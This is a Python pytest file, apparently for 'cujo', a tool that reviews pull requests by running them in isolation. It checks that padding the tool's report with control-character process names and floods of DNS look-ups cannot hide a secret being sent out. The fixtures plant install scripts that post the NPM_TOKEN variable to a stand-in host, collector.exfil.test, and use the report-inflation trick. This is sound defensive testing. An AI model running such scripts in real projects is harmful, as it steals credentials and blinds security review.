"""Cujo cannot be blinded by inflating a report (issue 20): one real `cujo review` per case.

The attack: a process whose executable path and arguments are long runs of control
characters (each escaped to six bytes of JSON) makes hundreds of DNS look-ups, so every
egress entry repeats a huge name, and the report grew past what the reader accepts; the
whole bundle was refused and the run ended `error`, though the decoy it sent was seen.
Now every field is clipped in bytes of JSON where it is written and the report is fitted
to its budget: the review is blocked by the decoy. The benign twin has the same shape
(a strangely named program making hundreds of look-ups, in the tests) and stays clean.

Reviews run one at a time, each once. They need full isolation (root, `ip`, `nft`,
`setpriv`, bubblewrap), as on an Actions runner; elsewhere they are skipped with the reason.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from typing import Any

import pytest
from cujorun import Cujo, Review
from e2ecases import ISOLATION
from gitrepo import GitRepo

from cujo_action.limits import REPORT_BYTES

pytestmark = ISOLATION

# The installs here make hundreds of lookups, one round trip to the logging resolver each:
# on a machine other work keeps busy (load 30 on two cores) that took past two minutes,
# and an install cut off before its decoy is sent proves nothing these tests are about.
FAST = {"install": 600, "test": 120, "smoke": 60, "probes": 60}
LOOKUPS = 400

# Copy the interpreter to a path of control characters and run it with arguments of them:
# the kernel names it so in /proc, and so does every record of what it did.
INFLATE = r"""
import os, shutil, subprocess, sys
odd = "\x01" * 200
where = os.path.join(os.path.expanduser("~"), *[odd] * 8)
os.makedirs(where, exist_ok=True)
exe = os.path.join(where, odd + "py")
shutil.copy(os.path.realpath(sys.executable), exe)
os.chmod(exe, 0o755)
env = {**os.environ, "PYTHONHOME": sys.base_prefix,
       "PYTHONPATH": os.pathsep.join(sys.path[1:])}
done = subprocess.run([exe, "ci/child.py"] + ["\x02" * 3000] * 4, env=env, stderr=subprocess.PIPE)
sys.stderr.write(done.stderr.decode(errors="replace")[-3000:])
sys.exit(done.returncode)
"""
LOOK_UP = f"""
import socket
for n in range({LOOKUPS}):
    try:
        socket.getaddrinfo(f"host-{{n:04d}}.lookups.example.test", 443)
    except OSError:
        pass
"""
FLOOD = """
import socket
for n in range(900):
    try:
        socket.getaddrinfo(f"www.site{n}.test", 443)  # a domain each: no tunnel
    except OSError:
        pass
"""
SEND = """
import os, urllib.request
urllib.request.urlopen("https://collector.exfil.test/k",
                       data=os.environ["NPM_TOKEN"].encode(), timeout=20)
"""


def script(child: str) -> str:
    """Return a shell script running INFLATE, the odd process running ``child``."""
    return (
        f"cat > ci/child.py <<'PY'\n{child.strip()}\nPY\npython - <<'PY'\n{INFLATE.strip()}\nPY\n"
    )


def project(install: str = "echo installed\n", test: str = "echo tested\n") -> dict[str, str]:
    settings = {"timeouts": FAST, "install": "bash ci/install.sh", "test": "bash ci/test.sh"}
    return {
        "requirements.txt": "",
        "calc.py": "def add(a, b):\n    return a + b\n",
        "ci/install.sh": install,
        "ci/test.sh": test,
        ".cujo.yml": json.dumps({**settings, "smoke": "true"}) + "\n",
    }


CASES: Mapping[str, tuple[dict[str, str], dict[str, str]]] = {
    "inflated": (project(), {"ci/install.sh": script(LOOK_UP + SEND)}),
    "odd-but-benign": (project(), {"ci/test.sh": script(LOOK_UP)}),
    # Fill the report's egress entries with distinct names, then send the decoy.
    "flooded": (project(), {"ci/install.sh": "python - <<'PY'\n" + FLOOD + SEND + "PY\n"}),
}


@pytest.fixture(scope="module")
def reviews(cujo: Cujo, pr_repo: Callable[..., GitRepo]) -> Callable[[str], Review]:
    done: dict[str, Review] = {}

    def get(name: str) -> Review:
        if name not in done:
            base, head = CASES[name]
            done[name] = cujo.review(pr_repo(f"blind-reports-{name}", base, head).path)
        return done[name]

    return get


def findings(review: Review, severity: str) -> set[str]:
    return {f["rule"] for f in review.verdict["findings"] if f["severity"] == severity}


def odd_entries(report: dict[str, Any]) -> list[dict[str, Any]]:
    return [e for e in report["egress"] if "\x01" in (e.get("exe") or "")]


def test_an_inflated_report_is_blocked_by_its_decoy_not_an_error(
    reviews: Callable[[str], Review],
) -> None:
    review = reviews("inflated")
    assert review.verdict["state"] == "blocked", str(review)
    assert "decoy-egress" in findings(review, "critical"), str(review)
    install = review.report("install")
    assert len((review.bundle / "install.json").read_bytes()) <= REPORT_BYTES
    # The odd process is named in each of its look-ups, clipped, and the clipping is said.
    assert len(odd_entries(install)) >= LOOKUPS, str(review)
    assert any(c["limit"] == "report-field" and not c["hides_danger"] for c in install["cuts"])


def test_the_same_shape_without_a_secret_stays_clean(reviews: Callable[[str], Review]) -> None:
    review = reviews("odd-but-benign")
    assert review.verdict["state"] == "clean", str(review)
    assert findings(review, "critical") == set()
    assert len(odd_entries(review.report("tests"))) >= LOOKUPS, str(review)


def test_filling_the_egress_entries_first_hides_nothing_and_is_a_flood(
    reviews: Callable[[str], Review],
) -> None:
    review = reviews("flooded")
    assert review.verdict["state"] == "blocked", str(review)
    # The decoy's request is kept ahead of the flood, and the flood is a finding of its own.
    assert {"decoy-egress", "evidence-flood"} <= findings(review, "critical"), str(review)
    install = review.report("install")
    (cut,) = [c for c in install["cuts"] if c["limit"] == "report-egress"]
    assert cut["dropped"] > 0, cut
    assert cut["phase"] == "install", cut
    assert any(e["decoy_seen"] == ["NPM_TOKEN"] for e in install["egress"]), install["egress"][:3]
